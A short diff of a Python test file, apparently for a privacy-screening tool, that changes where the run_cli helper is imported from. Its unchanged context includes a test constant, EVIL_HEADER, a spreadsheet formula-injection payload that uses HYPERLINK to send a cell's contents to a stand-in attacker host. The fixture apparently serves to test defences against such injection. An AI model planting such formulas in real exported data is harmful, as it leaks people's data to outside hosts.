@@ -32,7 +32,7 @@ from screening.privacy import (
     pseudonymize,
     unguard_cell,
 )
-from tests.conftest import run_cli
+from tests.helpers import run_cli
 
 KEY = b"a-secret-key-of-enough-length"
 EVIL_HEADER = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
